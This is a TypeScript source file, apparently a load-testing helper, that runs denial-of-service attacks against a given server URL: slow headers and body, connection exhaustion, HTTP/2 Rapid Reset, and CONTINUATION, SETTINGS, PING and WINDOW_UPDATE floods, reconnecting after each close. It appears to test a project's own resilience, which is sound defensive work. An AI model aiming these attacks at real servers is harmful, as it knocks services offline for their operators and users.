// Attacks a server until it is told to stop, within bounds: so many connections, and so many frames a second. A process of its own.
import { constants } from "node:http2";
import { connect, type Socket } from "node:net";
import {
  continuationFrame,
  headersFrame,
  initialWindowSetting,
  openHeadersFrame,
  pingFrame,
  resetFrame,
  settingsAckFrame,
  settingsFrame,
  windowUpdateFrame,
} from "../test/fixtures/http2-frames.ts";

/** What the attacker is told to do; absent: stop. */
export interface Order {
  readonly url?: string;
  readonly attack?: AttackName;
}

interface Attack {
  readonly connections: number;
  /** What is sent first on each connection. */
  first(): Uint8Array;
  /** What is sent each time after that, `turn` by turn from 0; absent: nothing. */
  next?(turn: number): Uint8Array;
  /** How often that is. */
  readonly everyMs?: number;
  /** Whether what the server sends is never read. */
  readonly isDeaf?: boolean;
}

const path = "/management/v1/policies/login";
const request = { ":method": "GET", ":scheme": "http", ":path": path, ":authority": "localhost" };
const start = (settings: readonly (readonly [number, number])[] = []) =>
  Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settingsFrame(settings), settingsAckFrame]);
const streamOf = (turn: number) => 2 * turn + 1;
const framesAtOnce = 100;

/** On four connections, 40 000 frames a second in all; those that the server ends are opened again a second later. */
const flood = (frame: (turn: number) => Uint8Array, first: Uint8Array = Buffer.alloc(0)): Attack => ({
  connections: 4,
  first: () => Buffer.concat([start(), first]),
  next: (turn) => Buffer.concat(Array.from({ length: framesAtOnce }, (_, i) => frame(turn * framesAtOnce + i))),
  everyMs: 10,
});

const attacks = {
  "idle connections": { connections: 2_000, first: () => Buffer.alloc(0) },
  "slow headers": {
    connections: 500,
    first: () => Buffer.from(`GET ${path} HTTP/1.1\r\nHost: localhost\r\n`),
    next: (turn) => Buffer.from(`X-${turn}: a\r\n`),
    everyMs: 500,
  },
  "slow body": {
    connections: 500,
    first: () => Buffer.from(`POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n\r\n`),
    next: () => Buffer.from(" "),
    everyMs: 500,
  },
  "half-open HTTP/2": { connections: 500, first: () => Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") },
  "HTTP/1.1 that is never read": {
    connections: 50,
    first: () => Buffer.alloc(0),
    next: () => Buffer.from(`GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n`),
    everyMs: 100,
    isDeaf: true,
  },
  "HTTP/2 without a window": {
    connections: 20,
    first: () => start([[initialWindowSetting, 0]]),
    next: (turn) => headersFrame(streamOf(turn), { ...request, ":path": "/openapi.json" }, true),
    everyMs: 20,
  },
  "rapid reset": flood((turn) =>
    Buffer.concat([headersFrame(streamOf(turn), request, true), resetFrame(streamOf(turn), constants.NGHTTP2_CANCEL)]),
  ),
  CONTINUATION: flood(() => continuationFrame(1, { "x-a": "b".repeat(100) }), openHeadersFrame(1, request)),
  SETTINGS: flood(() => settingsFrame()),
  PING: flood(() => pingFrame()),
  WINDOW_UPDATE: flood(() => windowUpdateFrame(0, 1)),
} as const satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;
export const attackNames = Object.keys(attacks) as readonly AttackName[];

/** Begins; returns what ends it. */
function begin({ hostname, port }: URL, { connections, first, next, everyMs, isDeaf }: Attack): () => void {
  const sockets = new Set<Socket>();
  const timers = new Set<NodeJS.Timeout>();
  let isOver = false;
  /** A connection that ends is opened again a second later. */
  const open = () => {
    if (isOver) return;
    const socket = connect(Number(port), hostname);
    sockets.add(socket);
    socket.on("error", () => {});
    if (isDeaf) socket.pause();
    else socket.resume();
    socket.write(first());
    let turn = 0;
    const timer = setInterval(() => {
      if (next !== undefined && socket.writableLength < 1_000_000) socket.write(next(turn++));
    }, everyMs ?? 60_000);
    timers.add(timer);
    socket.once("close", () => {
      clearInterval(timer);
      timers.delete(timer);
      sockets.delete(socket);
      const again = setTimeout(() => {
        timers.delete(again);
        open();
      }, 1_000);
      timers.add(again);
    });
  };
  for (let count = 0; count < connections; count += 1) open();
  return () => {
    isOver = true;
    for (const socket of sockets) socket.resetAndDestroy();
    for (const timer of timers) clearTimeout(timer);
  };
}

if (process.send !== undefined) {
  let stop = () => {};
  process.on("message", ({ url, attack }: Order) => {
    stop();
    stop = url === undefined || attack === undefined ? () => {} : begin(new URL(url), attacks[attack]);
    process.send?.("done");
  });
  process.on("disconnect", () => process.exit());
}
